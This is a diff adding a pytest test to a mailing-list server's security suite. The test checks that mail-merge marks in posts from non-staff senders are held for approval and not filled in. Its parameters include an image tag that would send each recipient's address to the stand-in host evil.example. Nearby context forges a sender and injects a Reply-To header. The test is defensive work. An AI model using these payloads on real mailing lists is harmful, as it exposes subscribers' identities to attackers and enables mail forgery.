@@ -161,3 +161,26 @@ def test_a_post_in_somebodys_name_tells_its_forger_nothing(both: tuple[Attack, A
     for attack in both:
         mails = attack.mail(JOE, "Hello", to=f"test-l@{DOMAIN}", more=f"Reply-To: {EVE}\r\n")
         assert [mail for mail in mails if recipients(mail) in ([EVE], [OLGA])] == []
+
+
+@pytest.mark.parametrize(
+    "mark", ["&*TO;", '<img src="https://evil.example/?&*URLENC(*TO);">', "&*NAME;"]
+)
+def test_only_staff_fill_in_what_they_write(tmp_path: Path, mark: str) -> None:
+    """A mark in a link or picture would tell a post's author who reads the list."""
+    attack = Attack(tmp_path)
+    sets = ["Send= Public", "Mail-Merge= Yes"]
+    attack.stage.create("MERGE-L", {"set": sets, "subscribers": [f"{JOE} | Joe Doe"]})
+    merge = {"to": f"merge-l@{DOMAIN}"}
+    for sender, asked in ((JOE, OLGA), (EVE, OLGA), (OLGA, OLGA)):
+        attack.forget()
+        mails = attack.mail(sender, f"Look {sender}: {mark}", **merge)
+        kinds = [(mail.partition(b"]")[0][1:], recipients(mail)) for mail in mails]
+        wanted = b"confirmation" if sender == OLGA else b"approval"
+        assert (wanted, [asked]) in kinds
+        assert attack.copies() == []
+    attack.mail(OLGA, f"OK C0DE{attack.stage.codes:012X}", told={"reverse_path": OLGA})
+    assert len(attack.copies()) == 1
+    attack.mail(JOE, "Nothing of the kind", **merge)
+    assert len(attack.copies()) == 2
+    attack.close()
